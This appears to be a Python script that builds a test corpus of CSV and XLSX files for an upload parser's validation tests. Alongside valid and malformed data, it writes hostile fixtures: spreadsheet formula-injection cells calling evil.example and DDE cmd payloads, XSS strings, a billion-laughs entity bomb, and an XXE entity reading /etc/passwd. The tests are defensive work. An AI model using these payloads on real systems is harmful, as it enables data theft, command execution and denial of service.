"""Write the upload corpus used by tests/model/test_userdata.py and tests/app/test_hostile_uploads.py.

    python tests/corpus/uploads/make_corpus.py            # every file
    python tests/corpus/uploads/make_corpus.py a.csv b.xlsx   # only these (the .xlsx files
                                                          # made by openpyxl carry a timestamp)

The files are committed; this script documents exactly how each one was made so that the bytes
(BOMs, encodings, separators, corrupt zips) are reproducible. Figures in the "good" files are
illustrative test data, not sourced observations.
"""

from __future__ import annotations

import io
import re
import sys
import unicodedata
import zipfile
from pathlib import Path

import openpyxl

HERE = Path(__file__).resolve().parent

GOOD_VI_EXCEL = (
    "Mã chỉ tiêu;Năm;Giá trị;Ghi chú\r\n"
    "fiber_households;2023;79,4;ước tính của Sở KH&CN\r\n"
    "fiber_households;2024;82,4;\r\n"
    "mobile_4g_coverage;2024;98,6;\r\n"
    "online_dossier_rate;2024;55,5;dịch vụ công mức 3/4\r\n"
    "labour_productivity_growth;2024;6,2;\r\n"
)

GOOD_EN = (
    "Indicator_ID,Year,Value,Note\n"
    'epayment_accounts,2023,28.5,"survey, provincial"\n'
    "epayment_accounts,2024,33.1,\n"
    "records_online_commune,2024,55,\n"
)

BAD_ROWS = (
    "indicator_id,year,value,note\n"  # line 1
    "fiber_households,2022,74.5,ok\n"  # 2 good
    "unknown_thing,2023,10,\n"  # 3 unknown indicator
    "fiber_households,2023,abc,\n"  # 4 not numeric
    "smartphone_share,2023,130,\n"  # 5 share > 100
    "mobile_4g_coverage,2024,98.5,\n"  # 6 duplicate of 7
    "mobile_4g_coverage,2024,98.7,\n"  # 7 duplicate of 6
    "fiber_households,1990,50,\n"  # 8 year out of range
    "fiber_households,2024,82.4,ok\n"  # 9 good
)

HEADER_ONLY = "indicator_id,year,value,note\n"

UTF16_TAB = (  # what Excel's "Unicode Text" export writes: UTF-16 LE with BOM, tab separated
    "Mã chỉ tiêu\tNăm\tGiá trị\tGhi chú\r\n"
    "smartphone_share\t2024\t88,5\tSở Thông tin\r\n"
    "fiber_communes\t2024\t100\t\r\n"
)

CP1258 = (  # "CSV (Comma delimited)" saved by Vietnamese Windows Excel in the ANSI code page
    "Mã chỉ tiêu;Năm;Giá trị;Ghi chú\r\n"
    "videoconf_commune;2024;45,5;Hội nghị truyền hình cấp xã\r\n"
    "videoconf_commune;2023;30;\r\n"
)

FORMULA = (
    "indicator_id,year,value,note\n"
    'fiber_households,2023,79.4,"=HYPERLINK(""http://evil.example"",""click"")"\n'  # 2 note neutralised
    "fiber_households,2024,=1+1,\n"  # 3 formula in value: rejected
    "@SUM(A1),2024,5,\n"  # 4 formula in indicator id: rejected
)


# --- hostile files (tests/app/test_hostile_uploads.py); line numbers count the header as 1 ---

WRONG_DELIMITER_PIPE = (  # a separator the reader does not use: named as such
    "indicator_id|year|value|note\n"
    "fiber_households|2024|82.4|\n"
)

WRONG_DELIMITER_ROWS = (  # header with ';', rows written with ',' (two tools, one file)
    "indicator_id;year;value;note\n"
    "fiber_households;2023;79,4;\n"  # 2 good
    "fiber_households,2024,82.4,\n"  # 3 split with ','
    "smartphone_share,2024,88.5\n"  # 4 split with ','
)

MIXED_DECIMALS = (  # decimal comma and decimal point in one file
    "indicator_id,year,value,note\n"
    'fiber_households,2023,"79,4",\n'  # 2 decimal comma: 79.4
    "fiber_households,2024,82.4,\n"  # 3 decimal point: 82.4
    'fixed_broadband_per_100,2024,"1,234",\n'  # 4 1.234 or 1234? refused
    "mobile_subs_per_100,2024,1.234,\n"  # 5 the same question: refused
    'smartphone_share,2024,"1.234,5",\n'  # 6 both marks: 1234.5, a share > 100: refused
)

NOT_FINITE = (
    "indicator_id,year,value,note\n"
    "fiber_households,2019,NaN,\n"  # 2
    "fiber_households,2020,inf,\n"  # 3
    "fiber_households,2021,-Infinity,\n"  # 4
    "fiber_households,2022,1e999,\n"  # 5 overflows to inf
    "fiber_households,2023,n/a,\n"  # 6 not a number
    "fiber_households,2024,#DIV/0!,\n"  # 7 Excel error
    "fiber_households,2025,80,\n"  # 8 good
)

SHARES = (
    "indicator_id,year,value,note\n"
    "fiber_households,2022,-0.5,\n"  # 2 negative share
    "fiber_households,2023,100.01,\n"  # 3 above 100
    "smartphone_share,2024,250%,\n"  # 4 above 100 with a % sign
    "fiber_households,2024,100,\n"  # 5 good: the bound itself
    "fiber_communes,2024,0,\n"  # 6 good: the bound itself
    "labour_productivity_growth,2024,-3.5,\n"  # 7 good: a growth rate may be negative
    "fixed_broadband_per_100,2024,-1,\n"  # 8 negative count
)

YEARS = (
    "indicator_id,year,value,note\n"
    "fiber_households,2024,80,\n"  # 2 duplicate of 3
    "fiber_households,2024.0,81,\n"  # 3 the same year written another way
    "fiber_households,2036,90,\n"  # 4 beyond 2035
    "fiber_households,3024,90,\n"  # 5 far future (typo)
    "fiber_households,1999,10,\n"  # 6 before 2000
    "fiber_households,99999999999999999999999,1,\n"  # 7 huge
    "fiber_households,2023,79,\n"  # 8 good
)

UNCLOSED_QUOTE = (
    "indicator_id,year,value,note\n"
    "fiber_households,2022,74.5,ok\n"  # 2 good
    'fiber_households,2023,79.4,"unclosed\n'  # 3 the quote swallows lines 4-5
    "fiber_households,2024,82.4,\n"
    "smartphone_share,2024,88.5,\n"
)

FORMULAS = (  # what a hostile spreadsheet cell can hold
    "indicator_id,year,value,note\n"
    'fiber_households,2022,74.5,"=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"\n'  # 2
    "fiber_households,2023,79.4,+cmd|' /C calc'!A0\n"  # 3 note neutralised
    "fiber_households,2024,82.4,@SUM(1+1)*cmd|' /C calc'!A0\n"  # 4 note neutralised
    'smartphone_share,2024,"=HYPERLINK(""http://evil.example"",""88"")",\n'  # 5 value refused
    "-2+3,2024,1,\n"  # 6 id refused
    "smartphone_share,=2023,70,\n"  # 7 year refused
    "\tsmartphone_share,2022,60,\n"  # 8 tab: stripped like any space
)

HTML = (
    "indicator_id,year,value,note\n"
    "<script>alert(1)</script>,2024,1,\n"  # 2 unknown id, shown as text
    "fiber_households,2024,80,<img src=x onerror=alert(1)>\n"  # 3 good; note kept as text
    "fiber_households\u202e,2023,1,\n"  # 4 bidi override in the id: shown as U+FFFD
)


def far_cell_xlsx() -> bytes:
    """A 5 kB workbook whose sheet claims a cell at XFD1048576 (reading it naively fills a
    million rows of 16,384 cells)."""
    return _with_sheet_xml(
        _sheet_xml(
            '<dimension ref="A1:XFD1048576"/>',
            '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        )
    )


def billion_laughs_xlsx() -> bytes:
    """Nested XML entities in the sheet (a classic denial of service)."""
    entities = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    xml = _sheet_xml("", '<row r="2"><c r="A2" t="inlineStr"><is><t>&l9;</t></is></c></row>')
    xml = xml.replace(b"<worksheet", f"<!DOCTYPE worksheet [{entities}]><worksheet".encode(), 1)
    return _with_sheet_xml(xml)


def external_entity_xlsx() -> bytes:
    """An XML external entity pointing at a local file (must never be read)."""
    xml = _sheet_xml("", '<row r="2"><c r="A2" t="inlineStr"><is><t>&e;</t></is></c></row>')
    doctype = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return _with_sheet_xml(xml.replace(b"<worksheet", (doctype + "<worksheet").encode(), 1))


def _sheet_xml(dimension: str, extra_rows: str) -> bytes:
    header = "".join(
        f'<c r="{col}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for col, name in zip("ABC", ("indicator_id", "year", "value"), strict=True)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dimension}<sheetData><row r=\"1\">{header}</row>{extra_rows}</sheetData></worksheet>"
    ).encode()


MINIMAL_XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"
    ),
}


def _with_sheet_xml(xml: bytes) -> bytes:
    """A minimal workbook written part by part (byte-for-byte reproducible) with this sheet."""
    parts = {name: text.encode() for name, text in MINIMAL_XLSX_PARTS.items()}
    return _zip_with({**parts, "xl/worksheets/sheet1.xml": xml})


TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"  # the combining marks Windows-1258 has


def to_cp1258(text: str) -> bytes:
    """Encode Vietnamese text in Windows-1258, which stores tone marks as combining characters
    and only the vowel letters precomposed (â ă ê ô ơ ư đ): each letter is split into its
    base + vowel marks (composed) and its tone mark (combining)."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", ch)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONE_MARKS))
        tones = "".join(c for c in parts if c in TONE_MARKS)
        out += base.encode("cp1258") + tones.encode("cp1258")
    return bytes(out)


def good_xlsx() -> bytes:
    """Vietnamese headers without diacritics, numbers as numbers, one formula cell whose cached
    value (42) is written into the sheet XML as Excel would."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "So lieu"
    ws.append(["ma chi tieu", "nam", "gia tri", "ghi chu"])
    ws.append(["records_online_province", 2023, 85.5, "báo cáo năm"])
    ws.append(["records_online_province", 2024, "=40+2", "công thức"])
    ws.append(["depts_shared_db_lgsp", 2024, 64, None])
    extra = wb.create_sheet("Ghi chu")
    extra.append(["this sheet is ignored"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode("utf-8")
                xml, n = re.subn(r"<f>40\+2</f>(<v\s*/>|<v></v>)?", "<f>40+2</f><v>42</v>", xml)
                assert n == 1, "formula cell not found"
                data = xml.encode("utf-8")
            dst.writestr(info, data)
    return out.getvalue()


def formula_nocache_xlsx() -> bytes:
    """A formula with no cached result (as openpyxl and some tools save): row 2 is rejected."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["indicator_id", "year", "value", "note"])
    ws.append(["fiber_communes", 2024, "=SUM(90,5)", None])
    ws.append(["fiber_communes", 2023, 90, None])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _zip_with(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def main() -> None:
    files = {
        "good_vi_excel.csv": b"\xef\xbb\xbf" + GOOD_VI_EXCEL.encode("utf-8"),
        "good_en.csv": GOOD_EN.encode("utf-8"),
        "bad_rows.csv": BAD_ROWS.encode("utf-8"),
        "empty.csv": b"",
        "header_only.csv": HEADER_ONLY.encode("utf-8"),
        "utf16.csv": UTF16_TAB.encode("utf-16"),  # Python writes the BOM (LE on this platform)
        "cp1258.csv": to_cp1258(CP1258),
        "binary_renamed.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "formula.csv": FORMULA.encode("utf-8"),
        "good.xlsx": good_xlsx(),
        "formula_nocache.xlsx": formula_nocache_xlsx(),
    }
    files["corrupt.xlsx"] = files["good.xlsx"][:300]  # truncated zip
    files.update(
        {
            "wrong_delimiter_pipe.csv": WRONG_DELIMITER_PIPE.encode("utf-8"),
            "wrong_delimiter_rows.csv": WRONG_DELIMITER_ROWS.encode("utf-8"),
            "mixed_decimals.csv": MIXED_DECIMALS.encode("utf-8"),
            "not_finite.csv": NOT_FINITE.encode("utf-8"),
            "shares.csv": SHARES.encode("utf-8"),
            "years.csv": YEARS.encode("utf-8"),
            "unclosed_quote.csv": UNCLOSED_QUOTE.encode("utf-8"),
            "formulas_hostile.csv": FORMULAS.encode("utf-8"),
            "html.csv": HTML.encode("utf-8"),
            # UTF-16 LE without a BOM (some exporters): told apart by its zero bytes
            "utf16le_nobom.csv": UTF16_TAB.encode("utf-16-le"),
            # UTF-8 BOM, then a Windows-1258 body: neither encoding reads the whole file
            "bom_then_cp1258.csv": b"\xef\xbb\xbf" + to_cp1258(CP1258),
            "far_cell.xlsx": far_cell_xlsx(),
            "billion_laughs.xlsx": billion_laughs_xlsx(),
            "external_entity.xlsx": external_entity_xlsx(),
            # a real zip archive that is not a workbook, named .xlsx
            "zip_not_xlsx.xlsx": _zip_with({"readme.txt": b"not a workbook"}),
        }
    )
    wanted = set(sys.argv[1:])
    unknown = wanted - set(files)
    if unknown:
        raise SystemExit(f"unknown corpus file(s): {sorted(unknown)}")
    for name, data in files.items():
        if wanted and name not in wanted:
            continue
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
